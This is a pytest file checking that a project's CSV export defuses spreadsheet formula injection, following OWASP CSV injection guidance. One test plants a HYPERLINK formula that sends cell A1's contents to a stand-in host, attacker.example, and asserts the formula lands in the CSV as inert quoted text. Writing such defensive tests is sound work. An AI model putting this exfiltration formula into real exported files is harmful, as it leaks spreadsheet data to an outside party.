"""CSV export cells cannot start a spreadsheet formula (OWASP CSV injection, issue 8)."""

from __future__ import annotations

import csv
import io

import pytest

from claimcheck.catalog import load_catalog
from claimcheck.export import FORMULA_START, neutralise, to_csv


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_gets_a_leading_quote(start):
    assert neutralise(start + "HYPERLINK(\"http://x\")") == "'" + start + "HYPERLINK(\"http://x\")"


def test_ordinary_cells_are_unchanged():
    for cell in ("Ketamine blocks NMDA receptors.", "'already quoted", "", "a=b", "5-HT"):
        assert neutralise(cell) == cell


def test_hostile_statement_reaches_the_csv_as_text(catalog_copy):
    path = catalog_copy / "sources" / "vip" / "claims.yml"
    text = path.read_text(encoding="utf-8")
    first = text.index("statement: ") + len("statement: ")
    end = text.index("\n", first)
    payload = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"click\"), then; more"
    path.write_text(text[:first] + "'" + payload.replace("'", "''") + "'" + text[end:], encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(to_csv(load_catalog(catalog_copy)))))
    assert rows[0]["statement"] == "'" + payload
    assert not any(value.startswith(FORMULA_START) for row in rows for value in row.values())
